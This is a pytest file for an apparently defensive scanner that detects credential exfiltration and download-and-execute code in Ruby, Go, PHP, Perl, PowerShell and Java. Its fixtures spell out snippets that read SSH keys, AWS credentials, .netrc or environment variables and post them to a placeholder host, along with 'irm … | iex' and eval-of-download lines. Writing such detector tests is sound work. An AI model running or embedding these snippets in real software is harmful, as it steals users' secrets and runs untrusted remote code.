"""Secrets and downloads, followed through languages that have no parser here."""

from time import process_time

import pytest

from panguard.scan.flow_other import other_leaks, other_runs
from panguard.scan.sensitive import Secret
from tests.budget import seconds

URL = "https://x.example.invalid/v1"


RUBY_LIST = """files = ["~/.aws/credentials"]
data = files.map { |f| File.read(f) }
req = Net::HTTP::Post.new(uri)
req.body = data.join
http.request(req)"""
GO_KEY = """data, _ := os.ReadFile(home + "/.ssh/id_rsa")
http.Post("https://x.example.invalid", "text/plain", bytes.NewReader(data))"""
GO_ENVIRONMENT = """body := strings.Join(os.Environ(), "")
http.Post("https://x.example.invalid", "text/plain", strings.NewReader(body))"""
PHP = """$k = file_get_contents(getenv("HOME")."/.aws/credentials");
curl_setopt($c, CURLOPT_POSTFIELDS, $k);"""
PERL = """open(my $f, "<", "$ENV{HOME}/.ssh/id_rsa"); my $k = join("", <$f>);
LWP::UserAgent->new->post("https://x.example.invalid", Content => $k);"""
POWERSHELL = """$k = Get-Content "$env:USERPROFILE\\.aws\\credentials" -Raw
Invoke-RestMethod -Uri https://x.example.invalid -Method Post -Body $k"""
JAVA = """String k = Files.readString(Path.of(home, ".ssh/id_rsa"));
client.send(HttpRequest.newBuilder(u).POST(BodyPublishers.ofString(k)).build(), h);"""


@pytest.mark.parametrize(
    ("program", "kind"),
    [
        ('k = File.read("~/.ssh/id_rsa")\nNet::HTTP.post(uri, k)', Secret.CREDENTIALS),
        ("Net::HTTP.post(uri, ENV.to_h.to_json)", Secret.ENVIRONMENT),
        (RUBY_LIST, Secret.CREDENTIALS),
        (GO_KEY, Secret.CREDENTIALS),
        (GO_ENVIRONMENT, Secret.ENVIRONMENT),
        (PHP, Secret.CREDENTIALS),
        (PERL, Secret.CREDENTIALS),
        (POWERSHELL, Secret.CREDENTIALS),
        (f"$e = Get-ChildItem Env: | ConvertTo-Json\nirm {URL} -Body $e", Secret.ENVIRONMENT),
        (JAVA, Secret.CREDENTIALS),
        ('conn.puts(\n  File.read("/root/.netrc")\n)', Secret.CREDENTIALS),
    ],
)
def test_a_secret_is_followed_to_where_it_is_sent(program: str, kind: Secret) -> None:
    assert {leak.secret for leak in other_leaks(program)} == {kind}


@pytest.mark.parametrize(
    "program",
    [
        f'k = File.read("~/.ssh/id_rsa.pub.txt")\nNet::HTTP.post(URI("{URL}"), k)',
        'k = File.read("/root/.netrc")\nNet::HTTP.post(URI("http://localhost:8080"), k)',
        f'# k = File.read("~/.ssh/id_rsa")\nNet::HTTP.post(URI("{URL}"), k)',
        f'cmd.Env = append(os.Environ(), "A=1")\nhttp.Post("{URL}", "a", cmd.Stdin)',
        f'k = File.read("/root/.netrc")\nputs k\nNet::HTTP.get(URI("{URL}"))',
        f'k = File.read("/root/.netrc")\nreq.headers.add("Authorization", k)\nNet::HTTP.get(URI("{URL}"))',
        'key, err := os.ReadFile("/root/.netrc")\nif err != nil { conn.Write(err) }',
        "",
    ],
)
def test_honest_programs_are_left_alone(program: str) -> None:
    assert other_leaks(program) == ()


@pytest.mark.parametrize(
    "program",
    [
        f'eval(URI.open("{URL}").read)',
        f'code = Net::HTTP.get(URI("{URL}"))\neval(code)',
        'r, _ := http.Get(U)\nb, _ := io.ReadAll(r.Body)\nexec.Command("sh", "-c", string(b)).Run()',
        f'$c = file_get_contents("{URL}");\neval($c);',
        f"$s = (New-Object Net.WebClient).DownloadString('{URL}')\nInvoke-Expression $s",
        f"irm {URL} | iex",
    ],
)
def test_downloads_that_are_run_are_found(program: str) -> None:
    assert other_runs(program)


@pytest.mark.parametrize(
    "program",
    [
        'eval(File.read("own.rb"))',
        f'name = Net::HTTP.get(URI("{URL}"))\nsystem("echo", name)',
        f'r, _ := http.Get("{URL}")\nexec.Command("git", "status").Run()',
        "irm http://localhost:3000/x | iex",
    ],
)
def test_what_runs_something_else_is_left_alone(program: str) -> None:
    assert other_runs(program) == ()


def test_the_cost_is_linear() -> None:
    line = 'x = foo(File.read("/root/.netrc"), "aaaa' + "b" * 60 + '")\n'
    started = process_time()
    other_leaks(line * 4_000)
    other_runs("((((" * 20_000)
    assert process_time() - started < seconds(6)


@pytest.mark.parametrize("unit", ["open", "for", "foreach", "| iex", ".json(", "x = "])
def test_a_long_line_costs_no_more_than_its_length(unit: str) -> None:
    spaces = unit + " " * 40_000
    many = f"{unit} " * (80_000 // len(unit))
    started = process_time()
    for line in (spaces, many):
        other_leaks(f"Net::HTTP.post ENV.to_h; {line}\n")
        other_runs(f'x = URI.open("{URL}").read; eval(y); {line}\n')
    assert process_time() - started < seconds(4)  # seconds; a square of the length takes minutes


@pytest.mark.parametrize("line", ["\n", "# note\n", "x = 1\n"])
def test_a_theft_after_very_many_lines_is_found(line: str) -> None:
    theft = 'x = File.read("/root/.netrc")\nNet::HTTP.post(U, x)\n'
    assert other_leaks(theft)
    assert other_leaks(line * 7_000 + theft)


def test_only_what_is_downloaded_before_the_pipe_is_run_by_it() -> None:
    assert other_runs(f"1 | iex; irm {URL}") == ()
    assert other_runs(f"1 | iex; irm {URL} | iex")
